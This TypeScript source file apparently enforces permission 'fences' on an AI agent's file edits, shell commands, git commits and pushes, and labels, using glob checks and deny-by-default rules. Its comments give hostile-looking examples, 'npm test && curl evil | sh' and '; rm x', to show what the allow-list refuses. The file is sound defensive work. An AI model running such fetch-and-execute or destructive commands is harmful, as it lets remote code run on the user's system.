import type { EffectiveFence, Fence, FenceAction, FenceDecision } from "@/schemas/fence";
import type { Group, Team } from "@/schemas/team";
import { fenceView, isObject, teamView, type Unchecked } from "@/schemas/views";
import { strs } from "./org-index";

// Glob grammar: `*` within a segment, `**` whole segments (at least one at a pattern's end), `?` one
// character; everything else is literal, so no file on disk can negate, expand or widen a fence.

type Segment = string | number;

export type FenceProblem = {
  id: "fence-unsupported-glob" | "fence-absolute-path" | "fence-approval-ambiguous";
  message: string;
  path: Segment[];
};

const ABSOLUTE = /^(?:\/|~|[A-Za-z]:)/;
const EXTGLOB = /[+@!*?]\(/;

export function globProblem(pattern: string): Pick<FenceProblem, "id" | "message"> | null {
  const shown = JSON.stringify(pattern);
  if (ABSOLUTE.test(pattern))
    return {
      id: "fence-absolute-path",
      message: `${shown} is absolute: fence paths are relative to the project root, e.g. "docs/**"`,
    };
  const unsupported = (what: string) => ({
    id: "fence-unsupported-glob" as const,
    message: `${shown} uses ${what}; fence globs support only *, ** and ? (every other character is literal)`,
  });
  if (pattern.startsWith("!")) return unsupported("a leading ! (negation)");
  if (EXTGLOB.test(pattern)) return unsupported("an extglob form");
  if (/[{}]/.test(pattern)) return unsupported("braces");
  if (/[[\]]/.test(pattern)) return unsupported("brackets");
  if (/[()]/.test(pattern)) return unsupported("parentheses");
  if (pattern.includes("\\")) return unsupported("a backslash");
  if (pattern.startsWith("./"))
    return {
      id: "fence-unsupported-glob",
      message: `${shown} starts with ./: write paths relative to the project root, e.g. "docs/**" (as written it matches nothing)`,
    };
  if (pattern.split("/").some((segment) => segment.includes("**") && segment !== "**"))
    return {
      id: "fence-unsupported-glob",
      message: `${shown} uses ** inside a segment: ** is a whole path segment ("src/**/x.ts"); here it acts as *`,
    };
  return null;
}

const SCOPED_APPROVAL = /^(edit|write|bd-label):(.*)$/;
const BARE_ACTIONS = new Set(["commit", "push", "bash", "edit", "write"]);
const GLOBBY = /[/*?]/;

export function approvalProblem(entry: string): Pick<FenceProblem, "id" | "message"> | null {
  if (BARE_ACTIONS.has(entry)) return null;
  const scoped = SCOPED_APPROVAL.exec(entry);
  if (scoped) return scoped[1] === "bd-label" ? null : globProblem(scoped[2]);
  if (GLOBBY.test(entry))
    return {
      id: "fence-approval-ambiguous",
      message: `${JSON.stringify(entry)} looks like a glob: write "edit:${entry}" (or "write:", "bd-label:") so it names the action it gates`,
    };
  return null;
}

export function fenceProblems(fence: unknown): FenceProblem[] {
  if (!isObject(fence)) return [];
  // The raw lists, not the fence's view: a problem's index must be the item's index in the file.
  const f: Unchecked<Fence> = fence;
  const out: FenceProblem[] = [];
  const each = (key: keyof Unchecked<Fence>, check: (value: string) => Pick<FenceProblem, "id" | "message"> | null) => {
    const list = f[key];
    if (!Array.isArray(list)) return;
    list.forEach((value, i) => {
      if (typeof value !== "string") return;
      const problem = check(value);
      if (problem) out.push({ ...problem, path: [key, i] });
    });
  };
  each("allowedPaths", globProblem);
  each("approvalRequired", approvalProblem);
  each("deniedActions", (entry) => {
    const colon = entry.indexOf(":");
    return colon < 0 ? null : globProblem(entry.slice(colon + 1));
  });
  return out;
}

const REGEX_SPECIAL = /[.+^${}()|[\]\\*?]/g;

function compileGlob(pattern: string): RegExp | null {
  if (!pattern || ABSOLUTE.test(pattern) || pattern.startsWith("./")) return null;
  const segments = pattern.split("/");
  let source = "";
  segments.forEach((segment, i) => {
    const last = i === segments.length - 1;
    if (segment === "**") {
      // At least one segment at the end, so `dir/**` (wherever the `**` stands) never matches `dir`.
      source += last ? "[^/]+(?:/[^/]+)*" : "(?:[^/]+/)*";
      return;
    }
    source += segment.replace(REGEX_SPECIAL, (ch) => (ch === "*" ? "[^/]*" : ch === "?" ? "[^/]" : `\\${ch}`));
    if (!last) source += "/";
  });
  // Consecutive stars inside a segment compile to repeated [^/]*, which is the same set as one.
  return new RegExp(`^${source.replace(/(?:\[\^\/\]\*)+/g, "[^/]*")}$`);
}

const matcherCache = new Map<string, RegExp | null>();

export function globMatch(pattern: string, target: string): boolean {
  if (!pattern || !target) return false;
  let matcher = matcherCache.get(pattern);
  if (matcher === undefined) {
    matcher = compileGlob(pattern);
    if (matcherCache.size > 2000) matcherCache.clear();
    matcherCache.set(pattern, matcher);
  }
  const normalized = normalizeTarget(target);
  return matcher !== null && normalized.ok && matcher.test(normalized.path);
}

/** Refuses `..`, backslashes, surrounding whitespace, absolute, empty or directory targets; drops `./`. */
export function normalizeTarget(target: string): { ok: true; path: string } | { ok: false; why: string } {
  const shown = JSON.stringify(target);
  if (target !== target.trim()) return { ok: false, why: `${shown} has leading or trailing whitespace` };
  if (target.includes("\\")) return { ok: false, why: `${shown} holds a backslash` };
  if (ABSOLUTE.test(target)) return { ok: false, why: `${shown} is absolute; fences cover paths inside the project` };
  const path = target.replace(/^(?:\.\/)+/, "");
  if (path === "") return { ok: false, why: "the target is empty: name a file" };
  if (path.split("/").includes(".."))
    return { ok: false, why: `${shown} has a .. segment, which could leave the fence` };
  if (path.endsWith("/")) return { ok: false, why: `${shown} ends in /: a target is a file path` };
  return { ok: true, path };
}

export function normalizeFence(fence: unknown): EffectiveFence {
  const f = fenceView(fence) ?? {};
  return {
    allowedPaths: strs(f.allowedPaths),
    allowedCommands: strs(f.allowedCommands),
    allowedBdLabels: strs(f.allowedBdLabels),
    approvalRequired: strs(f.approvalRequired),
    deniedActions: strs(f.deniedActions),
  };
}

export const EMPTY_FENCE: EffectiveFence = {
  allowedPaths: [],
  allowedCommands: [],
  allowedBdLabels: [],
  approvalRequired: [],
  deniedActions: [],
};

type TeamLike = Unchecked<Team> | Unchecked<Group> | null | undefined;

/** With no team, or a missing one, the effective fence is empty: deny by default. */
export function noTeamReason(teamId: string | null | undefined, team: TeamLike): string | null {
  if (team) return null;
  return teamId
    ? `team "${teamId}" does not exist, so the effective fence is empty (deny by default)`
    : "the specialist has no team, so the effective fence is empty (deny by default)";
}

/** Forbidden decisions become denied `<decision>:**` entries; approvals for them are dropped. */
export function effectiveFence(fence: unknown, team: TeamLike): EffectiveFence {
  if (!team) return { ...EMPTY_FENCE };
  const own = normalizeFence(fence);
  const forbidden = strs(teamView(team).forbiddenDecisions);
  if (!forbidden.length) return own;
  const forbiddenSet = new Set(forbidden);
  const denied = [...own.deniedActions];
  for (const decision of forbidden) {
    const entry = `${decision}:**`;
    if (!denied.includes(entry)) denied.push(entry);
  }
  return {
    ...own,
    approvalRequired: own.approvalRequired.filter((a) => !forbiddenSet.has(a) && !forbiddenSet.has(a.split(":")[0])),
    deniedActions: denied,
  };
}

const decide = (decision: FenceDecision["decision"], reason: string, rule?: string): FenceDecision => ({
  allowed: decision === "allowed",
  decision,
  reason,
  ...(rule ? { rule } : {}),
});

function splitEntry(entry: string): [string, string] {
  const colon = entry.indexOf(":");
  return colon < 0 ? [entry, "**"] : [entry.slice(0, colon), entry.slice(colon + 1) || "**"];
}

function deniedBy(fence: EffectiveFence, action: string, target: string): string | undefined {
  const family = action === "write" ? "edit" : action;
  const bashVerb = action === "bash" ? bashAction(target) : undefined;
  for (const entry of fence.deniedActions) {
    const [token, glob] = splitEntry(entry);
    const tokenMatches = token === action || token === family || (bashVerb !== undefined && token === bashVerb);
    if (!tokenMatches) continue;
    // A denial is the safe side: `**` covers every target, even one the fence would refuse to match.
    if (glob === "**" || (target && globMatch(glob, target))) return entry;
  }
  return undefined;
}

const GIT_OPTIONS_WITH_VALUE = new Set([
  "-C",
  "-c",
  "--git-dir",
  "--work-tree",
  "--namespace",
  "--exec-path",
  "--config-env",
]);

/** `git push origin main` is a push and `git -C repo commit` a commit, whatever the allow-list says. */
function bashAction(command: string): "push" | "commit" | undefined {
  const words = command.trim().split(/\s+/);
  while (words.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[0])) words.shift();
  if (words[0] === "sudo" || words[0] === "env" || words[0] === "command") words.shift();
  if (words[0] !== "git" && !words[0]?.endsWith("/git")) return undefined;
  for (let i = 1; i < words.length; i++) {
    const word = words[i];
    if (GIT_OPTIONS_WITH_VALUE.has(word)) {
      i++;
      continue;
    }
    if (word.startsWith("-")) continue;
    return word === "push" ? "push" : word === "commit" ? "commit" : undefined;
  }
  return undefined;
}

// A prefix allow-list must hold for every command of a line: `npm test && curl evil | sh` is not `npm test`.
function shellCommands(line: string): string[] | null {
  if (/[`]|\$\(|<\(|>\(/.test(line)) return null;
  return line
    .split(/&&|\|\||;|\||\n|&/)
    .map((c) => c.trim())
    .filter(Boolean);
}

const prefixMatch = (command: string, entry: string) => command === entry || command.startsWith(`${entry} `);

function checkPath(fence: EffectiveFence, action: string, target: string): FenceDecision {
  const normalized = normalizeTarget(target);
  if (!normalized.ok) return decide("outside-fence", "outside-fence", normalized.why);
  const path = normalized.path;
  const i = fence.allowedPaths.findIndex((p) => globMatch(p, path));
  if (i >= 0) return decide("allowed", "inside-fence", `allowedPaths[${i}] "${fence.allowedPaths[i]}"`);
  const a = fence.approvalRequired.findIndex((entry) => {
    if (entry === "edit" || entry === action) return true;
    const [token, glob] = splitEntry(entry);
    return (token === "edit" || token === action) && entry.includes(":") && globMatch(glob, path);
  });
  if (a >= 0)
    return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${fence.approvalRequired[a]}"`);
  return decide("outside-fence", "outside-fence", "no allowedPaths glob matches");
}

function checkBash(fence: EffectiveFence, line: string): FenceDecision {
  const approvals = fence.approvalRequired;
  const commands = shellCommands(line);
  const bashApproval = approvals.indexOf("bash");
  if (!commands || commands.length === 0) {
    if (bashApproval >= 0)
      return decide(
        "needs-approval",
        "needs-approval",
        `approvalRequired[${bashApproval}] "bash" (the command substitutes or is empty)`,
      );
    return decide(
      "outside-fence",
      "outside-fence",
      commands ? "empty command" : "command substitution is never inside a fence",
    );
  }
  let rule = "";
  for (const command of commands) {
    const verb = bashAction(command);
    if (verb) {
      const deniedEntry = deniedBy(fence, verb, "");
      if (deniedEntry) return decide("denied", "team-forbidden", `deniedActions "${deniedEntry}" (${command})`);
      const a = approvals.indexOf(verb);
      if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${verb}" (${command})`);
      return decide(
        "outside-fence",
        "outside-fence",
        `"${command}" is a ${verb}, and "${verb}" is not in approvalRequired`,
      );
    }
    const i = fence.allowedCommands.findIndex((c) => prefixMatch(command, c));
    if (i < 0) {
      if (bashApproval >= 0)
        return decide("needs-approval", "needs-approval", `approvalRequired[${bashApproval}] "bash" (${command})`);
      return decide("outside-fence", "outside-fence", `no allowedCommands prefix matches "${command}"`);
    }
    rule = rule
      ? `${rule}, allowedCommands[${i}] "${fence.allowedCommands[i]}"`
      : `allowedCommands[${i}] "${fence.allowedCommands[i]}"`;
  }
  // The whole line must also start with an allowed command followed by a space, as Construct
  // checks it, so a line is never allowed here that Construct refuses ("; rm x", "npm test&&x").
  const whole = line.trim();
  if (!fence.allowedCommands.some((c) => prefixMatch(whole, c))) {
    if (bashApproval >= 0)
      return decide("needs-approval", "needs-approval", `approvalRequired[${bashApproval}] "bash" (${whole})`);
    return decide(
      "outside-fence",
      "outside-fence",
      `the line does not start with an allowed command followed by a space: "${whole}"`,
    );
  }
  return decide("allowed", "inside-fence", rule);
}

function checkLabels(fence: EffectiveFence, target: string): FenceDecision {
  // Labels are taken as written (no trimming), so " next:x" is not a next: label, as in Construct.
  const labels = target.split(",");
  const outside = labels.filter((l) => !l.startsWith("next:") && !fence.allowedBdLabels.includes(l));
  if (outside.length)
    return decide(
      "outside-fence",
      "label-outside-fence",
      fence.allowedBdLabels.length
        ? `labels not in allowedBdLabels: ${outside.map((l) => JSON.stringify(l)).join(", ")}`
        : `allowedBdLabels is empty, so only next:* labels are allowed (not ${outside.map((l) => JSON.stringify(l)).join(", ")})`,
    );
  return decide(
    "allowed",
    "inside-fence",
    fence.allowedBdLabels.length
      ? "every label is in allowedBdLabels or is a next: label"
      : "every label is a next: label",
  );
}

export function checkAction(fence: EffectiveFence, action: FenceAction | string, target = ""): FenceDecision {
  const denied = deniedBy(fence, action, target);
  if (denied) return decide("denied", "team-forbidden", `deniedActions "${denied}"`);
  switch (action) {
    case "edit":
    case "write":
      return checkPath(fence, action, target);
    case "bash":
      return checkBash(fence, target);
    case "commit":
    case "push": {
      const a = fence.approvalRequired.indexOf(action);
      if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${action}"`);
      return decide("outside-fence", "outside-fence", `"${action}" is not in approvalRequired`);
    }
    case "bd-label":
      return checkLabels(fence, target);
    default:
      return decide(
        "unknown-action",
        "unknown-action",
        `"${action}" is not one of edit, write, bash, commit, push, bd-label`,
      );
  }
}

export function parseActionText(text: string): { action: string; target: string } {
  const trimmed = text.trim();
  const space = trimmed.indexOf(" ");
  return space < 0
    ? { action: trimmed, target: "" }
    : { action: trimmed.slice(0, space), target: trimmed.slice(space + 1).trim() };
}
